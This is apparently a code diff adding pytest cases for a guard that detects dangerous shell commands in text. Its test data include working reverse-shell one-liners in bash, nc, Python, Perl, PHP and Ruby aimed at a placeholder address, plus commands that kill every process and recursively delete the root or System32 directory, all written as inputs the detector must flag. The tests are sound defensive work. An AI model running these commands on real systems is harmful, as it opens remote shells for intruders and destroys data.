@@ -5,6 +5,7 @@ import pytest
 from seekgate.guards.commands import COMMAND_TYPES, command_hold, find_commands
 from seekgate.guards.types import Action, Finding, Kind
 
+
 def _command(start: int, end: int, type_: str) -> Finding:
     return Finding(start, end, Kind.COMMAND, type_)
 
@@ -261,3 +262,80 @@ def test_any_split_of_a_stream_finds_the_commands_the_whole_text_has(text):
         cuts = sorted(rng.sample(range(1, len(text)), k=rng.randint(1, 20)))
         assert _stream(text, cuts) == whole, cuts
     assert _stream(text, list(range(1, len(text)))) == whole
+
+
+# --- reverse shells and killing everything -----------------------------------------------------
+
+REVERSE_SHELLS = [
+    "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/p",
+    "mknod /tmp/bp p && /bin/sh 0</tmp/bp | nc 203.0.113.9 443 1>/tmp/bp",
+    "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "sh -i 2>&1 | ncat 203.0.113.9 9001",
+    "nc -lvp 4444 | /bin/bash",
+    (
+        'python3 -c \'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.9",4242));'
+        'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())\''
+    ),
+    (
+        'perl -e \'use Socket;$i="203.0.113.9";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\''
+    ),
+    'php -r \'$s=fsockopen("203.0.113.9",1234);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+    'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.9",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+]
+
+
+@pytest.mark.parametrize("command", REVERSE_SHELLS)
+def test_a_reverse_shell_is_found(command):
+    found = find_commands(command)
+    assert [f.type for f in found] == ["reverse_shell"]
+    assert found[0].end == len(command)  # through the end of a one-liner's quoted program
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "nc example.com 80 | sha256sum",
+        "nc -l 8080 > received.bin",
+        "mkfifo /tmp/pipe && cat /tmp/pipe | gzip > out.gz",
+        "python -c 'import socket; s=socket.create_connection((\"example.com\", 80)); print(s.recv(10))'",
+        'perl -MIO::Socket -e \'my $s = IO::Socket::INET->new("example.com:80"); print $s "GET /"\'',
+        'php -r \'$f=fsockopen("example.com",80); fwrite($f,"GET /");\'',
+        "ruby -rsocket -e 'puts TCPSocket.new(\"example.com\", 80).gets'",
+        "ws = new WebSocket(url); socket.connect(addr)",
+    ],
+)
+def test_network_clients_and_sockets_without_a_shell_are_not_reverse_shells(text):
+    assert find_commands(text) == []
+
+
+@pytest.mark.parametrize("command", ["sudo killall5 -9", "killall5 -15", "kill -- -1", "kill -s KILL -1", "kill -TERM -1"])
+def test_signalling_every_process_is_kill_all(command):
+    assert find_commands(command) == [_command(0, len(command), "kill_all_processes")]
+
+
+@pytest.mark.parametrize("text", ["kill -1 4242", "kill -9 -1234", "killall5 is the SysV tool that init runs at shutdown"])
+def test_signalling_one_process_or_group_or_naming_killall5_is_not(text):
+    assert find_commands(text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "command", "type_"),
+    [
+        ("Run `/usr/bin/rm -rf /` and see.", "/usr/bin/rm -rf /", "recursive_delete_root"),
+        ("A post says `rd /s /q C:\\Windows\\System32` fixes it.", "rd /s /q C:\\Windows\\System32", "recursive_delete_root"),
+    ],
+)
+def test_a_command_by_its_path_or_in_backticks_is_found(text, command, type_):
+    at = text.index(command)
+    assert find_commands(text) == [_command(at, at + len(command), type_)]
+
+
+def test_a_reverse_shell_streamed_in_pieces_is_found_as_in_the_whole_text():
+    text = f"Try:\n$ {REVERSE_SHELLS[0]}\nthen wait.\n"
+    whole = [(f.start, f.type) for f in find_commands(text)]
+    assert whole and _stream(text, list(range(1, len(text)))) == whole
+    rng = random.Random(5)
+    for _ in range(20):
+        cuts = sorted(rng.sample(range(1, len(text)), k=rng.randint(1, 12)))
+        assert _stream(text, cuts) == whole, cuts
